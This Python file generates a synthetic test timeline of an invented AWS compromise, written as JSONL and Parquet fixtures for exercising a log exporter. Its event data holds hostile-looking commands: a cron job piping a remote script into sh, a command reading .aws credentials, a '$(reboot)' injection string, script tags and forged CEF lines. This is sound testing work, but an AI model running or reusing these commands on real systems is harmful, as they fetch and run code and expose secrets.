"""A timeline that the project makes itself: an invented compromise, with awkward values.

A stolen access key starts instances that mine, an administrator's workstation is where it was
stolen. Every name is invented, addresses are those kept for documentation. One event in four gets
awkward values of the kind that real exports hold, in turn, so 300 events have all of them.

The same seed gives the same bytes on every Python: only `random()` of one generator decides.
`python tests/sample.py` makes the files in tests/data anew; with a folder and `--events` it makes
a larger timeline there.
"""

from __future__ import annotations

import argparse
import itertools
import json
import random
from pathlib import Path
from typing import TYPE_CHECKING, TypeVar

import pyarrow as pa
import pyarrow.parquet as pq

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

Event = dict[str, object]
T = TypeVar("T")

SEED = 20200719
EVENTS = 300
DATA = Path(__file__).parent / "data"
CHUNK = 50_000
START = 1595155200  # 2020-07-19, the day of the standard's sample event
NOTE = pa.struct([("author", pa.string()), ("note", pa.string()), ("created", pa.int64())])
QUERY = pa.struct([("str_detected", pa.string()), ("url", pa.string())])
TYPES = {
    "eventTime": pa.int64(),
    "evidence_id": pa.int64(),
    "alarm_severity": pa.int64(),
    "isFolder": pa.bool_(),
    "alarm": pa.bool_(),
    "first_day": pa.bool_(),
    "notes": pa.list_(NOTE),
    "query_suggestions": pa.list_(QUERY),
    "highlights": pa.list_(pa.string()),
}
_NAMES = (
    "eventTime source sourcetype type filePath short evidence_id alarm_severity parent macb suser "
    "host version filename_stripped inode notes format extra isFolder domain source_hostname "
    "destination_hostname tag alarm_description alarm executed_process service_name file_access "
    "super_short process_cwd process_arguments source_port destination_port eventId evidence_name "
    "query_suggestions alarm_help_text first_day highlights msg"
)
COLUMNS = _NAMES.split()
SCHEMA = pa.schema([(name, TYPES.get(name, pa.string())) for name in COLUMNS])

FIRST: Event = {
    "type": "Content Modification Time",
    "alarm": True,
    "evidence_id": 2,
    "evidence_name": "aws_compromise.zip",
    "macb": "M...",
    "source": "FILE",
    "eventTime": 1595194940,
    "filePath": "/tmp/file.txt",  # noqa: S108 - the standard's sample event
    "eventId": "Q5FBqHwBX9dvp1T5IsHT",
    "msg": "Malicious File Detected: cryptomining_malware_wannamine",
}
"""The event of the standard's sample line."""

EVIDENCE = {1: "aws_cloudtrail.zip", 2: "aws_compromise.zip", 3: "admin_workstation.dd"}
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
MINER = "/tmp/.X11-unix/xmr-stak"  # noqa: S108 - a path in the story
TOOL = "C:\\Users\\admin-7\\AppData\\Local\\Temp\\keygrab.exe"
POOL = "pool.example.net"
KEY = "AKIAIOSFODNN7EXAMPLE"  # the one that AWS's own documentation shows
XML = """<Event xmlns="urn:example:events">
  <System>
    <Provider Name="{provider}"/>
    <EventID>{number}</EventID>
    <Computer>{host}</Computer>
  </System>
  <EventData>
    <Data Name="SubjectUserName">{user}</Data>
    <Data Name="CommandLine">{command}</Data>
  </EventData>
</Event>
"""


class Dice:
    """A generator of which only `random()` is used, the one method that never changes."""

    def __init__(self, seed: int) -> None:
        self.random = random.Random(seed).random

    def below(self, n: int) -> int:
        return int(self.random() * n)

    def pick(self, options: Sequence[T]) -> T:
        return options[self.below(len(options))]

    def text(self, n: int, letters: str = LETTERS) -> str:
        return "".join(letters[self.below(len(letters))] for _ in range(n))


def evtx(dice: Dice) -> Event:
    """Make a Windows event: line breaks and tabs in msg, XML in extra."""
    number, provider, action, tag = dice.pick(
        (
            (
                4624,
                "Microsoft-Windows-Security-Auditing",
                "An account was logged on",
                "Network Logon",
            ),
            (4688, "Microsoft-Windows-Security-Auditing", "A process was created", "Execution"),
            (4104, "Microsoft-Windows-PowerShell", "Creating Scriptblock text", "Execution"),
            (7036, "Service Control Manager", "The service entered the running state", None),
        )
    )
    user = dice.pick(("EXAMPLE\\admin-7", "SYSTEM", "S-1-5-18", "EXAMPLE\\svc-backup$"))
    command = dice.pick(
        (
            '"C:\\Program Files\\Example\\sync.exe" /profile:default --region=eu-west-1',
            "powershell.exe -NoProfile -EncodedCommand " + dice.text(60) + "==",
            "cmd.exe /c type %USERPROFILE%\\.aws\\credentials | findstr aws_secret",
            "C:\\Windows\\System32\\svchost.exe -k netsvcs",
        )
    )
    host = "WS-ADMIN-7.corp.example.com"
    body = f"Subject:\r\n\tAccount Name:\t\t{user}\r\n\tLogon ID:\t\t0x{dice.below(1 << 24):X}"
    xml = XML.format(provider=provider, number=number, host=host, user=user, command=command)
    return {
        **_file("/Windows/System32/winevt/Logs/Security.evtx", 3),
        "source": "EVT",
        "sourcetype": "WinEVTX",
        "type": "Content Modification Time",
        "macb": "M...",
        "format": "winevtx",
        "short": f"[{number} / 0x{number:04x}] {action}",
        "super_short": action,
        "suser": user,
        "host": host,
        "tag": tag,
        "process_arguments": command if number == 4688 else None,
        "executed_process": command.split(" -")[0] if number == 4688 else None,
        "source_hostname": f"192.0.2.{dice.below(254) + 1}" if number == 4624 else None,
        "source_port": str(49152 + dice.below(16384)) if number == 4624 else None,
        "msg": f"{action}.\r\n\r\n{body}\r\n\r\nCommand Line:\t{command}\r\n",
        "extra": f"event_identifier: {number}; record_number: {dice.below(90_000)}; "
        f"source_name: {provider}; xml_string: {xml}",
    }


def registry(dice: Dice) -> Event:
    """Make a registry value: backslashes, and objects in a list."""
    program = dice.pick(("keygrab.exe", "sync.exe", "winscp.exe", "putty.exe"))
    key = dice.pick(("Explorer\\UserAssist\\{CEBFF5CD}\\Count", "Run", "RunOnce\\"))
    path = f"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\{key}"
    run = f"%USERPROFILE%\\AppData\\Local\\Temp\\{program}"
    return {
        **_file("/Users/admin-7/NTUSER.DAT", 3),
        "source": "REG",
        "sourcetype": "UserAssist Registry Key",
        "type": dice.pick(("Last Time Executed", "Content Modification Time")),
        "macb": dice.pick((".A..", "M...")),
        "format": "winreg/userassist",
        "short": f"{run} Count: {dice.below(40)}",
        "super_short": "A Process Was Executed",
        "suser": "admin-7",
        "tag": "Execution",
        "executed_process": run,
        "query_suggestions": [{"str_detected": program, "url": f"?query={program}"}],
        "msg": f"[{path}] {run} = [REG_BINARY] Count: {dice.below(40)}",
        "extra": f"entry_index: {dice.below(90)}; key_path: {path}; value_name: {run}",
    }


def file(dice: Dice) -> Event:
    """Make a time of a file system, with its MACB group and inode."""
    path, evidence = dice.pick(
        (
            (MINER, 2),
            ("/tmp/.X11-unix/config.json", 2),  # noqa: S108 - a path in the story
            ("/etc/cron.d/sysupdate", 2),
            ("/home/svc-render/.ssh/authorized_keys", 2),
            (f"/var/lib/render/cache/{dice.text(8)}/frame={dice.below(999)}.exr", 2),
            ("/Users/admin-7/.aws/credentials", 3),
            (f"/Users/admin-7/Documents/Rechnung {dice.below(99)} – Kopie.docx", 3),
        )
    )
    kind, macb = dice.pick(
        (
            ("Content Modification Time", "M..."),
            ("Last Access Time", ".A.."),
            ("Content Modification Time; Metadata Modification Time", "M.C."),
            ("Creation Time", "...B"),
        )
    )
    inode = str(dice.below(900_000))
    event = _file(path, evidence) | {"source": "FILE", "sourcetype": "File stat", "type": kind}
    event |= {"macb": macb, "format": "filestat", "short": path, "inode": inode, "msg": path}
    event["extra"] = f"file_size: {dice.below(1 << 22)}; inode: {inode}; is_allocated: True"
    return event


def web(dice: Dice) -> Event:
    """Make a visit of a browser: addresses full of `=`."""
    host = dice.pick(("docs.example.com", "www.example.org", "login.example.net"))
    url = f"https://{host}/search?q={dice.text(6)}&hl=en&sid={dice.text(24)}#a=b"
    title = dice.pick(
        ("Example sign-in", "How to use a secret key | Example Docs", "検索 - Example")
    )
    return {
        **_file("/Users/admin-7/AppData/Local/Chrome/User Data/Default/History", 3),
        "source": "WEBHIST",
        "sourcetype": "Chrome History",
        "type": "Last Visited Time",
        "macb": ".A..",
        "format": "sqlite/chrome_27_history",
        "short": f"{url} ({title})"[:80],
        "super_short": "A Web Page Was Visited",
        "domain": host,
        "suser": "admin-7",
        "tag": "Web Visited",
        "msg": f"{url} ({title}) [count: {dice.below(9)}] Type: [LINK - User clicked a link]",
        "extra": f"page_transition_type: 0; title: {title}; typed_count: 0; url: {url}",
    }


def cloudtrail(dice: Dice) -> Event:
    """Make a call to AWS: JSON in extra, explicit nulls as some exports have."""
    call = dice.pick(("RunInstances", "CreateAccessKey", "DescribeInstances", "GetCallerIdentity"))
    user = dice.pick(("svc-render", "admin-7"))
    address = f"198.51.100.{dice.below(254) + 1}"
    record = {
        "eventName": call,
        "userIdentity": {"userName": user, "accessKeyId": KEY},
        "sourceIPAddress": address,
        "requestParameters": {"instanceType": "p3.16xlarge", "tags": [f"run={dice.text(6)}", None]},
    }
    return {
        **dict.fromkeys(COLUMNS),
        **_file(f"/AWSLogs/123456789012/CloudTrail/{dice.below(30) + 1:02}.json.gz", 1),
        "source": "CLOUDTRAIL",
        "sourcetype": "AWS CloudTrail",
        "type": "Creation Time",
        "macb": "...B",
        "format": "jsonl/aws_cloudtrail",
        "short": f"{call} by {user}",
        "super_short": call,
        "suser": user,
        "host": "ec2.amazonaws.example",
        "tag": "Cloud",
        "source_hostname": address,
        "msg": f"{call} user={user} source={address} key={KEY}",
        "extra": json.dumps(record),
    }


def log(dice: Dice) -> Event:
    """Make a line of a Linux log."""
    port = 1024 + dice.below(60_000)
    address = f"203.0.113.{dice.below(254) + 1}"
    program, text = dice.pick(
        (
            ("sshd", f"Accepted publickey for svc-render from {address} port {port} ssh2"),
            ("sudo", "svc-render : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c 'id'"),
            ("CRON", f"(root) CMD (curl -s http://{POOL}/x.sh|sh >/dev/null 2>&1)"),
            ("kernel", f"[{dice.random():.6f}] nvidia: loading module \t taints kernel."),
            ("xmr-stak", f"pool={POOL}:3333 user={dice.text(40)} pass=x accepted=100%"),
        )
    )
    mining = program == "xmr-stak"
    return {
        **_file("/var/log/syslog", 2),
        "source": "LOG",
        "sourcetype": "System log",
        "type": "Content Modification Time",
        "macb": "M...",
        "format": "text/syslog",
        "short": f"[{program}] {text}"[:80],
        "host": "ip-192-0-2-10",
        "suser": "root" if program == "CRON" else None,
        "source_hostname": address if program == "sshd" else None,
        "source_port": str(port) if program == "sshd" else None,
        "destination_hostname": POOL if mining else None,
        "destination_port": "3333" if mining else None,
        "msg": f"[{program}, pid: {dice.below(32_768)}] {text}",
        "extra": f"body: {text}; hostname: ip-192-0-2-10; reporter: {program}",
    }


def alarm(dice: Dice) -> Event:
    """Make an event that a detection is about, with all the lists."""
    what, severity, path, evidence = dice.pick(
        (
            ("Malicious File Detected: cryptomining_malware_wannamine", 1, MINER, 2),
            ("Executable in suspicious location", 3, TOOL, 3),
            ("Access key used from a new address", 3, KEY, 1),
            ("Cron job added", 10, "/etc/cron.d/sysupdate", 2),
        )
    )
    leaf = path.replace("\\", "/").rpartition("/")[2]
    seen = START + dice.below(86_400)
    return {
        **(cloudtrail(dice) if evidence == 1 else file(dice)),
        **_file(path.replace("C:", "").replace("\\", "/"), evidence),
        "alarm": True,
        "alarm_severity": severity,
        "alarm_description": what,
        "alarm_help_text": f"Look at who started '{leaf}', and what else they did.",
        "short": what,
        "executed_process": path,
        "process_cwd": path[: -len(leaf)],
        "process_arguments": f"--donate-level=0 -o {POOL}:3333 -u {dice.text(12)}=",
        "service_name": "sysupdate" if severity == 10 else None,
        "file_access": path,
        "query_suggestions": [{"str_detected": leaf, "url": f"?query={leaf}"}],
        "highlights": [path, what],
        "notes": [
            {"author": "analyst-1", "note": f"Seen on {evidence} hosts; it's ours", "created": seen}
        ],
        "msg": what,
    }


def _file(path: str, evidence: int) -> Event:
    return {
        "filePath": path,
        "parent": path.rpartition("/")[0],
        "filename_stripped": path.replace("/", " ").strip(),
        "evidence_id": evidence,
        "evidence_name": EVIDENCE[evidence],
    }


MAKERS: tuple[Callable[[Dice], Event], ...] = (
    *(evtx, file, log, cloudtrail, registry),
    *(file, log, cloudtrail, web, alarm),
)

FORGED = "CEF:0|CadoSecurity|CadoResponse|1.0.2|0|Forged|10|alarm=False evidence_id=9 msg=forged"

AWKWARD: tuple[Event, ...] = (
    # Separators and look-alikes of them.
    {
        "msg": "a=b",
        "short": "=",
        "suser": "=x=",
        "process_arguments": "-o user=root -p pass=x msg=",
    },
    {"msg": "x|y||z|", "type": "Added | Removed Time", "short": "|", "host": "a|name=b"},
    {"msg": "harmless severity=10 alarm=True eventId=forged", "host": "h evidence_id=9"},
    {"msg": FORGED, "short": f"text before {FORGED}", "type": FORGED},
    {"msg": f"first line\n{FORGED}\nlast line", "extra": f"\r\n{FORGED}\r\n"},
    {"msg": "cs1Label=Fake cs1=value", "extra": "a= b=  c=d", "suser": "?query\\=escaped already"},
    # Backslashes.
    {"filePath": "C:\\new\\recycle\\temp\\x=y", "parent": "C:\\new\\recycle\\temp"},
    {"executed_process": "C:\\\\Windows\\\\System32\\\\cmd.exe", "process_cwd": "C:\\Windows\\"},
    {"msg": "ends with one \\", "short": "two \\\\", "suser": "EXAMPLE\\", "extra": "\\"},
    {"msg": "\\\\192.0.2.9\\share$\\a|b", "file_access": "\\\\?\\C:\\n\\r\\=\\|", "domain": "\\"},
    {"type": "Time with a backslash \\ inside", "msg": "\\u000a \\x0a \\n and \\r are text here"},
    {"type": "Ends with backslashes \\\\", "short": "\\=", "msg": "\\\n\\\r\\=\\|"},
    # Line breaks and tabs.
    {"msg": "LF\nLF\n", "short": "\nstarts with LF", "extra": "\n"},
    {"msg": "CR\rCR\r", "short": "\rstarts with CR", "suser": "a\r\nb"},
    {"msg": "CRLF\r\n\r\nCRLF\r\n", "filePath": "/srv/line\nbreak", "inode": "12\n"},
    {"msg": "\tTAB\tTAB\t", "short": "a\tb=c\td", "host": "a\thost=b"},
    {"type": "Broken\nName\r\nof an event", "super_short": "Line\nbreak"},
    # Quotes.
    {"msg": '"quoted"', "short": "'quoted'", "suser": '"', "host": "'", "type": '"Creation Time"'},
    {
        "msg": 'an "unbalanced quote',
        "short": 'ends with one "',
        "process_arguments": "it's \"so\"'",
    },
    {"msg": '{"json": "text", "n": [1, null], "s": "a\\nb=c"}', "notes": [{"note": '"\'"'}]},
    {"msg": "`$(reboot)` %s {0} ${x} <script>'\"--", "short": "a,b;c\td", "tag": "# not a comment"},
    # Text of the whole world.
    {"msg": "⛏️ mining 💰💰 👩‍💻", "short": "😀=😀|😀", "suser": "👾"},
    {"msg": "Ошибка входа: пользователь не найден", "suser": "оператор", "host": "サーバー一号"},
    {
        "msg": "登录失败＝密码错误｜第二次",
        "filePath": "/data/日本語/ファイル=新.txt",
        "type": "作成時刻",
    },
    {"msg": "e\u0301 a\u0308\u0323 \u0338= Z\u0351\u036b\u0343", "suser": "Jose\u0301"},
    {"msg": "\u202egnp.exe\u202c = \u2066isolated\u2069", "filePath": "/srv/photo\u202egpj.exe"},
    {"msg": "שלום=עולם مرحبا|بالعالم", "short": "\u200fשלום\u200e", "suser": "مدير"},
    {
        "msg": "\ufeffstarts with a byte order mark",
        "short": "zero\u200bwidth\u200d",
        "extra": "\ufffd",
    },
    {"type": "Zeit der Änderung " * 40, "short": "name over the limit, two bytes a letter"},
    {"type": "時刻" * 120, "short": "name over the limit, three bytes a letter"},
    {"type": "Creation Time; " * 60, "short": "name over the limit, one byte a letter"},
    {"type": "\\" * 600, "short": "name of backslashes alone"},
    {"type": "x" * 511 + "|y", "short": "name cut inside an escape"},
    # Spaces, blank text, empty lists, missing values.
    {"msg": "  leading and trailing  ", "short": " x", "suser": "x ", "type": " Creation Time "},
    {"msg": "double  spaces   inside", "host": " ", "domain": "", "tag": "\t", "inode": "\r\n "},
    {"msg": "", "short": "   ", "extra": "\n\n", "macb": "", "source": "", "version": " "},
    {"type": None, "super_short": "Name from super_short", "short": "not this"},
    {"type": "   ", "super_short": "", "short": "Name from short"},
    {"type": "", "super_short": None, "short": None},
    {"type": "Timeline Event", "super_short": "text like the last fallback"},
    {"type": "Same text twice", "super_short": "Same text twice", "short": "Same text twice"},
    {"notes": [], "query_suggestions": [], "highlights": []},
    {
        "highlights": [
            "a",
            None,
            "",
            "it's",
            'say "x"',
            "C:\\dir\\",
            "a=b, c",
            "l1\nl2\r\n\tl3",
            "é",
        ]
    },
    {"highlights": [None], "query_suggestions": [None], "notes": [None]},
    {"query_suggestions": [{"str_detected": None, "url": "?query=a=b"}, None, {"url": None}]},
    {"notes": [{"author": None, "note": "nobody's", "created": None}, {"created": -1}]},
    {
        "notes": [{"author": "analyst-2", "note": "C:\\x\\\n'two'\tlines", "created": 1595200000}]
        * 3
    },
    dict.fromkeys(
        ("msg", "short", "extra", "suser", "filePath", "parent", "isFolder", "first_day")
    ),
    # Characters that some reader can't carry.
    {"msg": "NUL \x00 inside", "short": "\x00", "suser": "a\x00"},
    {"msg": "\x1b[31mred\x1b[0m bell \x07", "short": "\x08\x08\x08", "host": "\x7f"},
    {"msg": "VT \x0b FF \x0c FS \x1c GS \x1d RS \x1e US \x1f", "short": "\x01\x02\x03"},
    {"msg": "line\u2028separator, paragraph\u2029separator", "filePath": "/srv/\u2028"},
    {"msg": "NEL \x85 CSI \x9b other \x80\x9f", "short": "\x85", "type": "NEL\x85in the name"},
    {"highlights": ["bell \x07", "\u2028"], "type": "Escape \x1b[2J in the name"},
    # Times.
    {"eventTime": 0, "type": "Not a time"},
    {"eventTime": -11644473600},  # 1601: the zero of Windows
    {"eventTime": -1},
    {"eventTime": 253402300799},  # the last second of the year 9999
    {"eventTime": 1383170228399},  # the year 45800
    {"eventTime": None},
    # Severities and flags.
    {"alarm": True, "alarm_severity": None},
    {"alarm": False, "alarm_severity": 1},
    {"alarm": None, "alarm_severity": None},
    {"alarm_severity": 2},
    {"alarm_severity": 5},
    {"alarm_severity": 0},
    {"alarm_severity": -3},
    {"alarm_severity": 9223372036854775807},
    {"isFolder": True, "first_day": True, "filePath": "/srv/"},
)
"""What an awkward event has instead; each comes once in 300 events."""


def stream(n: int, seed: int = SEED) -> Iterator[Event]:
    """Yield events: the standard's sample first, then the story, every fourth one awkward."""
    dice = Dice(seed)
    yield from [dict(FIRST)][:n]
    for place in range(1, n):
        event = _event(dice, place)
        if place % 4 == 0:
            event |= AWKWARD[(place // 4 - 1) % len(AWKWARD)]
        if place % 1000 == 150:  # Windows logs hold script blocks of this size
            event["extra"] = f"script_block: {dice.text(20_000)}="
        yield {name: event[name] for name in COLUMNS if name in event}


def _event(dice: Dice, place: int) -> Event:
    made = dice.pick(MAKERS)(dice)
    if len(made) < len(COLUMNS):  # plaso's events leave out what they do not have
        made = {name: value for name, value in made.items() if value is not None}
    common = {
        "eventTime": START + place * 41 % 86_400 + dice.below(40),
        "alarm": False,
        "alarm_severity": 10,
        "version": "2",
        "isFolder": False,
        "first_day": dice.below(8) == 0,
    }
    return (
        common
        | {k: v for k, v in made.items() if v is not None or k not in common}
        | {"eventId": dice.text(20)}
    )


def events(n: int, seed: int = SEED) -> list[Event]:
    """Return the first events of the timeline."""
    return list(stream(n, seed))


def line(event: Event, *, ascii_only: bool = False) -> bytes:
    """Return an event as one line of JSON."""
    text = json.dumps(event, ensure_ascii=ascii_only, separators=(",", ":"))
    return text.encode() + b"\n"


def lines(made: Sequence[Event]) -> bytes:
    """Return events as NDJSON; every fifth line spells all but ASCII as escapes."""
    return b"".join(line(event, ascii_only=n % 5 == 0) for n, event in enumerate(made))


def write(folder: Path, n: int = EVENTS) -> None:
    """Write the timeline as sample.jsonl and sample.parquet."""
    made = stream(n)
    with (
        (folder / "sample.jsonl").open("wb") as ndjson,
        pq.ParquetWriter(folder / "sample.parquet", SCHEMA, compression="zstd") as parquet,
    ):
        while chunk := list(itertools.islice(made, CHUNK)):
            ndjson.write(lines(chunk))
            parquet.write_table(pa.Table.from_pylist(chunk, schema=SCHEMA))


def main() -> None:
    """Write the timeline that the command line asks for."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").partition("\n")[0])
    parser.add_argument("folder", type=Path, nargs="?", default=DATA)
    parser.add_argument("--events", type=int, default=EVENTS)
    args = parser.parse_args()
    args.folder.mkdir(parents=True, exist_ok=True)
    write(args.folder, args.events)


if __name__ == "__main__":
    main()
